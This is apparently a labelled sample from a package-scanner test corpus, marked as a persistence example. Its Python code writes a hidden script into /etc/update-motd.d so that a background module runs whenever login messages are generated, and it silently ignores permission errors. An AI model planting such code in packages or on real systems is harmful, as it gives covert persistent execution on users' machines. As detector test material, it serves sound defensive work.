# pkgguard corpus 690 (persistence), modelled on [linux-persistence]; inert, never run.
import os
import stat

_SCRIPT = "#!/bin/sh\n(python3 -m pkg.sync >/dev/null 2>&1 &)\n"

path = "/etc/update-motd.d/99-pkg-sync"
try:
    with open(path, "w") as fh:
        fh.write(_SCRIPT)
    os.chmod(path, os.stat(path).st_mode | stat.S_IXUSR | stat.S_IXGRP | stat.S_IXOTH)
except PermissionError:
    pass
